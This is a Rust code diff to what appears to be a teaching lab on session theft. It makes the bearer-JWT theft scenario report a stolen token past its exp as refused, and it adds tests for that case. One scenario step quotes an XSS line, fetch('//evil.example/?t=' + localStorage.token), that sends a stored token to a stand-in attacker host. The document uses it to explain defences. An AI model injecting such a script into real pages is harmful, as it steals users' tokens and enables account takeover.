@@ -615,33 +615,46 @@ pub fn cookie_theft(flags: CookieFlags, lifetimes: &SessionLifetimes) -> RiskSce
 #[must_use]
 pub fn jwt_theft(lifetimes: &SessionLifetimes) -> RiskScenario {
     let useful = lifetimes.stolen_jwt_useful_for();
+    // A copy of a token already past exp is refused like any expired token: exp is the one
+    // thing that ends a JWT, and here it has.
+    let live = useful > 0.0;
+    let replay = if live {
+        step(Actor::Attacker, "Sends Authorization: Bearer <token> from anywhere: the signature is genuine", Some(true))
+    } else {
+        step(Actor::Attacker, "Sends Authorization: Bearer <token>: refused, its exp has passed", Some(false))
+    };
+    let keeps = if live {
+        step(Actor::Server, "Keeps accepting the token: it verifies it statelessly until exp", Some(true))
+    } else {
+        step(Actor::Server, "Refuses it as expired, as it refuses every token past exp", Some(false))
+    };
     let steps = vec![
         step(Actor::Victim, "Logs in; the SPA stores the access token (a JWT) in localStorage", None),
         step(Actor::Attacker, "Injects a script (XSS): fetch('//evil.example/?t=' + localStorage.token)", None),
         step(Actor::Browser, "localStorage has no HttpOnly: the token is sent to the attacker", Some(true)),
-        step(
-            Actor::Attacker,
-            "Sends Authorization: Bearer <token> from anywhere: the signature is genuine",
-            Some(true),
-        ),
+        replay,
         step(Actor::Victim, "Clicks Log out: the SPA deletes its copy; the server keeps no session to delete", None),
-        step(Actor::Server, "Keeps accepting the token: it verifies it statelessly until exp", Some(true)),
+        keeps,
     ];
     let verdict = if useful.is_infinite() {
         format!(
             "Stolen, and never expiring: the token has no exp, so {}; nothing on the server can recall it.",
             crate::core::labs::revocation::NO_EXP_CONSEQUENCE
         )
-    } else {
+    } else if live {
         format!(
             "Stolen. Useful for {} (until exp), whatever the victim does: logout does not end a JWT",
             human_duration(useful)
         )
+    } else {
+        "Stolen, but useless: the token had expired, and exp is the one thing that ends a JWT. A live one would \
+         have worked until its exp, whatever the victim did."
+            .to_owned()
     };
     RiskScenario {
         title: "Stealing a bearer JWT".into(),
         steps,
-        attacker_wins: true,
+        attacker_wins: live,
         useful_for: Some(useful),
         verdict,
         defence: "Short access-token lifetimes (minutes) with rotated refresh tokens; a denylist (jti) or a token \
@@ -664,6 +677,10 @@ mod tests {
         assert_eq!(forever.stolen_jwt_useful_for(), f64::INFINITY, "no exp: never ends");
         let spent = SessionLifetimes { jwt_remaining: -5.0, ..l };
         assert_eq!(spent.stolen_jwt_useful_for(), 0.0, "already expired");
+        let theft = jwt_theft(&spent);
+        assert!(!theft.attacker_wins, "a copy past exp is refused");
+        assert!(theft.verdict.starts_with("Stolen, but useless"), "{}", theft.verdict);
+        assert_eq!(theft.steps[3].attacker_gains, Some(false));
         assert_eq!(SessionLifetimes { jwt_remaining: f64::NAN, ..l }.stolen_jwt_useful_for(), 0.0);
     }
 
